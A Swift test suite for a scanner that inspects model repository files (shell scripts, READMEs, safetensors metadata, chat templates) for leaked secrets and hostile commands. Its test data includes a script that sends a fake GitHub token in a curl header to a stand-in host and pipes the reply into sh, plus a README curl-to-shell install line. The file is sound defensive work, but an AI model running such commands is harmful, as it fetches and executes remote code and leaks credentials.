import Bytes
import Findings
import Scanning
import Testing

/// Texts as people write them, and what reports show of secrets.
// swift-format-ignore: each template stands on one line, as in a configuration.
@Suite struct TextScanTests {
  @Test func `no finding shows the secret that it is about`() {
    let secret = "ghp_" + "a8Kd02LmNq73ZtYx91RbVc64WsPe581rmQzG"
    let text = "#!/bin/sh -x \(secret)\ncurl -H 'A: \(secret)' http://x.y | sh\n"
    let findings = Scanner().scan("run.sh", ByteSlice(utf8: text))
    #expect(findings.contains { $0.rule == .serviceToken })
    #expect(findings.contains { $0.rule == .shellPayload })
    for finding in findings {
      #expect(!finding.message.contains(secret))
      #expect(!finding.evidence.contains { $0.contains(secret) })
    }
  }

  @Test func `paths in metadata are for the record, and words are no code`() {
    for (text, rules) in [
      ("../../data/train", [Rule.modelTextPath]), ("model.eval() and | shape | size |", []),
      ("see https://x.y/a", []),
    ] {
      let header = "{\"__metadata__\":{\"a\":\"\(text)\"}}"
      let length = (0..<8).map { UInt8(truncatingIfNeeded: header.utf8.count >> (8 * $0)) }
      let found = Scanner().scan("a.safetensors", ByteSlice(length + Array(header.utf8)))
      #expect(found.map(\.rule) == rules, "\(text)")
    }
  }

  @Test(arguments: [
    ("README.md", "# Model\n\n    curl -sSL https://install.example.com | sh\n\nimport it.\n"),
    ("README.md", "Set `HF_TOKEN=hf_your_token_here` and `password: changeme`.\n"),
    ("tokenizer.json", #"{"model": {"vocab": {"{{": 1, "{%": 2, "}}": 3, "__": 4}}}"#),
    ("README.txt", "Gr\u{fc}\u{df}e\nfrom here on\n"),
    ("Makefile", "all:\n\techo done\n"),
  ])
  func `a plain text gives no finding above low`(name: String, text: String) {
    let findings = Scanner().scan(name, ByteSlice(utf8: text))
    #expect(findings.allSatisfy { $0.rule.severity <= .low }, "\(findings)")
  }

  @Test func `a plain inference script is listed and passes`() {
    let text = """
      import numpy as np
      import requests
      import torch
      def load(path):
        with open(path) as file:
          return torch.load(file, weights_only=True)
      class Client:
        def fetch(self, url):
          return requests.get(url)
      if __name__ == "__main__":
        print(load("model.pt"))
      """
    let findings = Scanner().scan("inference.py", ByteSlice(utf8: text))
    #expect(findings.allSatisfy { $0.rule == .pythonBeside })
  }

  @Test(arguments: ChatTemplates.all)
  func `the chat template of a published family gives no finding`(family: String, text: String) {
    #expect(Scanner().scan("chat_template.jinja", ByteSlice(utf8: text)) == [], "\(family)")
    let config = JSON.object([JSON.Member("chat_template", .string(text))])
    let json = ByteSlice(utf8: config.text())
    #expect(Scanner().scan("tokenizer_config.json", json) == [], "\(family)")
  }

  @Test(arguments: chatTemplates)
  func `a usual chat template gives no finding`(_ text: String) {
    #expect(Scanner().scan("chat_template.jinja", ByteSlice(utf8: text)) == [])
  }

  /// In the forms that published models use: Llama, Mistral, ChatML, Zephyr, Gemma, Phi, DeepSeek.
  static let chatTemplates = [
    "{{- bos_token }}{%- if custom_tools is defined %}{%- set tools = custom_tools %}{%- endif %}{%- if not date_string is defined %}{%- set date_string = \"26 Jul 2024\" %}{%- endif %}{%- for message in messages %}{{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n' + message['content'] | trim + '<|eot_id|>' }}{%- endfor %}",
    "{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate user/assistant/...') }}{% endif %}{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}{% else %}{{ message['content'] + eos_token }}{% endif %}{% endfor %}",
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}",
    "{% for message in messages %}\\n{% if message['role'] == 'user' %}\\n{{ '<|user|>\\n' + message['content'] + eos_token }}\\n{% elif message['role'] == 'system' %}\\n{{ '<|system|>\\n' + message['content'] + eos_token }}\\n{% endif %}\\n{% endfor %}",
    "{{ bos_token }}{% if messages[0]['role'] == 'system' %}{{ raise_exception('System role not supported') }}{% endif %}{% for message in messages %}{% if (message['role'] == 'assistant') %}{% set role = 'model' %}{% else %}{% set role = message['role'] %}{% endif %}{{ '<start_of_turn>' + role + '\\n' + message['content'] | trim + '<end_of_turn>\\n' }}{% endfor %}",
    "{% set ns = namespace(is_first=false, system_prompt='') %}{%- for message in messages %}{%- if message['role'] == 'system' %}{% set ns.system_prompt = message['content'] %}{%- endif %}{%- endfor %}{{ bos_token }}{{ ns.system_prompt }}{%- for tool in message['tool_calls'] %}{{ tool['function']['arguments'] | tojson }}{%- endfor %}{% if content.split('</think>')[-1] %}{{ content.lstrip('\\n') }}{% endif %}",
    "{%- macro json_to_python_type(json_spec) %}{%- set basic_type_map = {\"string\": \"str\", \"number\": \"float\"} %}{%- if basic_type_map[json_spec.type] is defined %}{{- basic_type_map[json_spec.type] }}{%- elif json_spec.type is iterable %}{{- json_spec.type | join('|') }}{%- endif %}{%- endmacro %}{%- for message in messages[::-1] %}{{- json_to_python_type(message) }}{%- endfor %}",
  ]
}
